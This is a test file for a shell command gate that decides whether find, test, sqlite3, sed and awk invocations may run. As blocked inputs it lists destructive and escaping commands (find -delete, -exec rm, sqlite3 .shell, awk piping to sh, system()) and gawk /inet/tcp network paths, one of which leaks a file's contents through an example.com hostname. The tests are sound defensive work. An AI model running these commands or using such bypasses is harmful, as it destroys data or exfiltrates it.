/** find, test, sqlite3, sed and awk: their arguments are small languages, and each word of them is looked at. */
import { describe, expect, it } from "vitest";
import { judgeShell } from "../shell-gate.ts";

const verdict = (command: string): string => {
  const judged = judgeShell(command, { cwd: "/w", home: "/home/u" });
  return judged.allowed ? "runs" : `${judged.code}: ${judged.matched}`;
};
const hint = (command: string): string => {
  const judged = judgeShell(command, { cwd: "/w", home: "/home/u" });
  return judged.allowed ? "" : judged.hint;
};

describe("find", () => {
  it.each(
    `-true -false -daystart -depth -d -follow -mount -xdev -noleaf -warn -nowarn -empty -executable -readable -writable -nouser
    -nogroup -print -print0 -ls -prune -quit`
      .trim()
      .split(/\s+/),
  )("[GA-05] looks and prints: %s", (test) => {
    expect(verdict(`find . ${test}`)).toBe("runs");
    expect(verdict(`find . ${test}x`)).toBe(`unknown-option: find ${test}x`);
  });

  it.each(
    `-name -iname -path -ipath -wholename -iwholename -regex -iregex -lname -ilname -type -xtype -size -mtime -atime -ctime -mmin
    -amin -cmin -newer -anewer -cnewer -newermt -neweraB -user -group -uid -gid -perm -links -inum -samefile -maxdepth -mindepth
    -fstype -regextype -used -printf`
      .trim()
      .split(/\s+/),
  )("[GA-05] compares with one word, whatever that is: %s", (test) => {
    expect(verdict(`find . ${test} x -print`)).toBe("runs");
    expect(verdict(`find . ${test} -delete`)).toBe("runs"); // it is the value
    expect(verdict(`find . ${test} x -delete`)).toBe("harmful-option: find -delete");
    expect(verdict(`find . ${test} "$x"`)).toBe("runs");
    expect(verdict(`find . ${test} *`)).toBe(`dynamic-word: find ${test}`);
    expect(verdict(`find . ${test}`)).toBe(`syntax: find ${test}`);
  });

  it.each([
    ["find", "runs"],
    ["find a ./b /c", "runs"],
    ["find -L -H -P . -name x", "runs"],
    ["find -O3 . -name x", "runs"],
    ["find . '(' -name a -o -name b ')' ! -name c , -not -name d -a -true", "runs"],
    ["find . -delete", "harmful-option: find -delete"],
    ["find . -fprint x", "harmful-option: find -fprint"],
    ["find . -fprint0 x", "harmful-option: find -fprint0"],
    ["find . -fprintf x y", "harmful-option: find -fprintf"],
    ["find . -fls x", "harmful-option: find -fls"],
    ["find . -ok ls ';'", "runs-programs: find -ok"],
    ["find . -okdir ls ';'", "runs-programs: find -okdir"],
    ["find . -newerxy a", "unknown-option: find -newerxy"],
    ["find . -newermtx a", "unknown-option: find -newermtx"],
    ["find . -O4", "unknown-option: find -O4"],
    ['find "$x"', "dynamic-word: find …"],
    ["find ./$x", "dynamic-word: find …"], // any number of words
    ['find "./$x" -name a', "runs"],
    ['find "$HOME" -name a', "runs"],
    ["find ./* -name a", "runs"],
    ['find . "$x"', "dynamic-word: find …"],
    ['find "(./$x"', "dynamic-word: find …"],
    ["find a-b 'c(d),e!' -name x", "runs"],
    ['find "a(b$x" -name x', "runs"],
    ["find -context x -flags y -Btime 1 -Bmin 2 -newerXY z -E -X -x -s -H -ignore_readdir_race", "runs"],
    ["find . -noignore_readdir_race -help --help -version --version -or -and", "runs"],
  ])("[GA-05] is judged word by word: %s", (command, expected) => {
    expect(verdict(command)).toBe(expected);
  });

  it.each([
    ["find . -exec wc -l {} ';'", "runs"],
    ["find . -exec wc -l {} +", "runs"],
    ["find . -execdir wc -l {} ';'", "runs"],
    ["find . -exec rm {} ';'", "known-write: rm"],
    ["find . -execdir rm {} +", "known-write: rm"],
    ["find . -exec wc {} ';' -exec rm {} ';'", "known-write: rm"],
    ["find . -exec wc {} ';' -delete", "harmful-option: find -delete"],
    ["find . -exec wc {}", "syntax: find -exec without an end"],
    ["find . -exec wc +", "syntax: find -exec without an end"], // a lone plus is an argument
    ["find . -exec sort {} ';'", "runs"], // `./…` cannot be an option
    ["find . -exec sort {} +", "runs"],
    ["find . -exec sort -o {} ';'", "harmful-option: sort -o"],
    ["find . -exec {} ';'", "unknown-command: {}"],
    ["find / -exec cat x{} ';'", "runs"],
    ["find . -exec", "syntax: find -exec without an end"],
    ["find . -exec ';' wc {}", "empty: "],
    ["find {} + -exec wc {}", "syntax: find -exec without an end"], // an end that stands before it is none
    ["find . -exec sort x{}y ';'", "runs"],
    ["find . -exec sort -k{} ';'", "runs"],
    ["find . -exec sort -{} ';'", "dynamic-word: sort -…"],
    ["find . -exec uniq {} ';'", "runs"],
    ["find . -exec uniq {} +", "operand: uniq: at most 1"], // the second file would be written
    // some versions give the mere name here, and a file may be called -oout
    ["find . -execdir sort {} ';'", "dynamic-word: sort …"],
    ["find . -execdir sort ./{} ';'", "runs"],
    // What the shell computes may be the braces.
    ["for f in '{}' b; do find . -execdir sort \"$f\" ';'; done", "dynamic-word: sort …"],
    ["for f in '{}' b; do find . -exec sort \"$f\" ';'; done", "runs"],
    ["for f in a b; do find . -execdir sort \"./$f\" ';'; done", "runs"],
    ['for f in a b; do find . -exec grep -l "$f" {} +; done', "runs"],
    ["for f in '{}' b; do find . -exec ls \"$f\" + -delete -exec echo ';'; done", "dynamic-word: find -exec"],
    ["find . -execdir sort -- {} ';'", "runs"],
    // what it finds begins with where it begins
    ["find src -exec awk 1 {} +", "runs"],
    ["find -exec awk 1 {} +", "runs"],
    ["find -L src -exec awk 1 {} +", "runs"],
    ["find -L -exec sort {} +", "runs"],
    ['find "$HOME" -exec sort {} +', "runs"],
    ['find "$HOME/x" -exec sort {} +', "runs"],
    ["find /inet -exec awk 1 {} +", "operand: awk /inet…"],
  ])("[GA-05] runs what reads, with what it finds: %s", (command, expected) => {
    expect(verdict(command)).toBe(expected);
  });

  const mightEnd = "dynamic-word: find -exec";
  it.each([
    ["find . -exec echo $(echo '; -delete -exec echo') ';'", mightEnd],
    ["find . -exec echo \"$(echo ';')\" -delete -exec echo ';'", mightEnd],
    ["find . -exec echo $x ';'", mightEnd],
    ["find . -exec echo \"$x\" ';'", mightEnd],
    ["find . -exec wc * ';'", mightEnd], // a file may be called ;
    ["find . -exec echo \";$x\" ';'", mightEnd],
    ["find . -exec echo {} \"+$x\" ';'", mightEnd],
    ["find . -exec echo ./$x ';'", mightEnd], // any number of words
    ["find . -exec echo $(git merge-base a b) ';'", mightEnd],
    ["find . -execdir echo \"$x\" ';'", mightEnd],
    ["printf ';' | xargs -I% find . -exec echo % -delete -exec echo ';'", mightEnd],
    ["for x in a ';'; do find . -exec echo \"$x\" -delete -exec echo ';'; done", mightEnd],
    ['for x in a +; do find . -exec echo {} "$x" -delete -exec echo {} +; done', mightEnd],
    ["for x in a ''; do find . -exec echo \"$x\" ';'; done", mightEnd],
    ["for x in *; do find . -exec echo \"$x\" ';'; done", mightEnd],
    ['for x in a b; do find . -exec grep -l "$x" {} +; done', "runs"],
    ["for x in ';a' +b; do find . -exec grep -l \"$x\" {} +; done", "runs"],
    ['for x in a b; do find . -exec grep -l "$x$y" {} +; done', "runs"],
    ['for x in a* b; do find . -exec grep -l "$x" {} +; done', "runs"],
    ["for x in $(git rev-list -3 HEAD); do find . -exec grep -l $x {} +; done", mightEnd],
    ["x=a; find . -exec grep -l $x {} +", "runs"],
    ['find . -exec grep -l "$HOME" {} +', "runs"],
    ["find . -exec grep -c $? {} +", "runs"],
    ["find . -exec grep -e \"x$x\" {} ';'", "runs"],
    ["find . -exec grep -e=\"$x\" {} ';'", "runs"],
    ["find . -exec wc ./* ';'", "runs"],
  ])("[GA-05] ends a command where it is written that it ends: %s", (command, expected) => {
    expect(verdict(command)).toBe(expected);
  });

  it("[GA-07] tells how to write it", () => {
    expect(hint("find . -exec echo $x ';'")).toBe("Write the words of the command literally, or put text in front.");
    expect(hint('find . -true "$x"')).toBe("Write the find expression literally.");
    expect(hint("find . -name *")).toBe("Quote the pattern.");
  });
});

describe("a test in single brackets", () => {
  it.each("-a -b -c -d -e -f -g -h -k -p -r -s -t -u -w -x -G -L -N -O -S -n -z".split(" "))(
    "[GA-05] of one word: %s",
    (operator) => {
      expect(verdict(`[ ${operator} "$x" ]`)).toBe("runs");
      expect(verdict(`test ! ${operator} "$x"`)).toBe("runs");
    },
  );

  it.each("= == != '<' '>' -eq -ne -lt -le -gt -ge -nt -ot -ef".split(" "))("[GA-05] of two: %s", (operator) => {
    expect(verdict(`[ "$x" ${operator} 1 ]`)).toBe("runs");
    expect(verdict(`[ -f a -a "$x" ${operator} 1 -o x ]`)).toBe("runs");
  });

  it.each([
    ["[ ]", "runs"],
    ["test", "runs"],
    ["[ a ]", "runs"],
    ['[ "$x" ]', "runs"],
    ["[ ! a ]", "runs"],
    ["[ ! = a ]", "runs"],
    ["[ a", "script: [ a ]"],
    ["[ -v a ]", "script: [ -v a ]"], // evaluates what stands in a subscript
    ["[ -R a ]", "script: [ -R a ]"],
    ["[ a -foo b ]", "script: [ a -foo b ]"],
    ['[ a "$x" b ]', "script: [ a … b ]"],
    ["[ a = b c ]", "script: [ a = b c ]"],
    ["[ -f a b ]", "script: [ -f a b ]"],
    ["[ -f a -a ]", "script: [  ]"],
    ["[ '(' a ')' ]", "script: [ ( a ) ]"],
    ["[ '(' ]", "script: [ ( ]"],
    ["[ $x = a ]", "dynamic-word: [ … ]"],
    ["[ -f * ]", "dynamic-word: [ … ]"],
  ])("[GA-05] has only operators that are written out and known: %s", (command, expected) => {
    expect(verdict(command)).toBe(expected);
  });

  it("[GA-07] tells to quote", () => {
    expect(hint("[ $x = a ]")).toBe("Quote the computed word.");
  });
});

describe("sqlite3", () => {
  const sqlite = (query: string): string => verdict(`sqlite3 -readonly db "${query}"`).split(":")[0] ?? "";

  it.each([
    "select 1",
    " SELECT 1; select 2;",
    "with a as (select 1) select * from a",
    "explain select 1",
    "values (1)",
    "pragma table_info(a)",
    "pragma user_version",
    ".tables",
    ".schema a",
    ".mode json",
    ".headers on",
  ])("[GA-05] asks: %s", (query) => {
    expect(sqlite(query)).toBe("runs");
  });

  it.each([
    "delete from a",
    "select 1; drop table a",
    "with a as (select 1) delete from b",
    "pragma user_version = 1",
    "pragma journal_mode",
    "select load_extension('x')",
    "select writefile('a', 'b')",
    "attach 'a' as b",
    "vacuum",
    "create table a (b)",
    ".shell ls",
    ".system ls",
    ".output a",
    ".once a",
    ".import a b",
    ".tablesx",
    ".schema | sh",
    ".schema; drop",
    ".tables\n.shell ls",
    "select 1;\n.shell ls",
  ])("[GA-05] does not change, run or open anything: %j", (query) => {
    expect(sqlite(query)).toBe("script");
  });

  it("[GA-05, GA-07] needs a query that is written out", () => {
    expect(verdict("sqlite3 -readonly db")).toBe("missing-option: sqlite3 needs a query");
    expect(hint("sqlite3 -readonly db")).toBe("Give the query as an argument.");
    expect(hint('sqlite3 -readonly db "select $x"')).toBe("Write the query literally.");
  });
});

describe("sed and awk as commands", () => {
  it.each([
    ["sed p a", "runs"],
    ["sed -n -e p -e d a", "runs"],
    ["sed --expression=p a", "runs"],
    ["sed -e p -e 'w x' a", "script: sed w x"],
    ["sed -e p 'w x'", "runs"], // with -e the operand is a file
    ["sed", "script: sed without a script"],
    ['sed "$x" a', "dynamic-word: sed …"],
    ['sed "p$x" a', "script: sed"],
    ['sed -e "$x" a', "script: sed"],
    ["awk 1 a", "runs"],
    ['awk "$x" a', "dynamic-word: awk …"],
    ['awk "1$x" a', "script: awk"],
    ["awk", "script: awk"],
    ["awk 1 /inet/tcp/0/h/80", "operand: awk /inet/tcp/0/h/80…"],
    ["awk 1 $x", "operand: awk …"],
    ['awk 1 "./$x"', "runs"],
    ["awk 1 *", "runs"],
    ['awk 1 "$HOME/$x"', "runs"],
    ['awk 1 "$PWD"/a', "runs"],
    ['for f in *.txt; do awk 1 "$f"; done', "runs"],
    ['awk 1 "$x"', "operand: awk …"], // to gawk, /inet/tcp/0/host/80 is a connection
    ['awk 1 "/$x"', "operand: awk /…"],
    ['awk 1 "/inet/$x"', "operand: awk /inet/…"],
    ['awk 1 "/etc/$x"', "runs"],
    ["awk 1 $HOME/a", "operand: awk …"],
    ['for f in /inet/tcp/0/h/80 a; do awk 1 "$f"; done', "dynamic-word: awk"],
    ['f=/inet/tcp/0/$(cat a).example.com/80; gawk 1 "$f"', "dynamic-word: gawk"],
    ["xargs -I% awk 1 %", "runs"],
    ["find . -exec awk 1 {} +", "runs"],
    ["awk '{ print > \"out\" }' a", "script: awk print >"],
    ["awk '{ print | \"sh\" }' a", "script: awk pipe"],
    ["awk 'BEGIN { system(\"ls\") }'", "script: awk system"],
    ["awk '{ print \"a }'", "script: awk unterminated string"],
    ["awk '/a'", "script: awk regular expression"],
    ["awk '{ print length /x/ 1 }'", "script: awk length /"],
    ["awk '@x'", "script: awk @"],
    ["awk 'BEGIN { x = 0x1system(1) }'", "script: awk x1system"],
    ["awk '{ x = (1)/(2)/(3)/(4)/(5)/(6)/(7)/8 }'", "script: awk: too many slashes"],
  ])("[GA-05] have their scripts where all versions look for them: %s", (command, expected) => {
    expect(verdict(command)).toBe(expected);
  });

  it("[GA-07] tell to write the script out", () => {
    expect(hint('sed "p$x" a')).toBe("Write the sed script literally.");
    expect(hint('awk 1 "$x"')).toBe("Put ./ in front of a computed name.");
    expect(hint('awk "1$x" a')).toBe("Write the awk program literally.");
    expect(hint("awk '{ print > \"out\" }' a")).toBe("Let awk print to standard output.");
  });
});
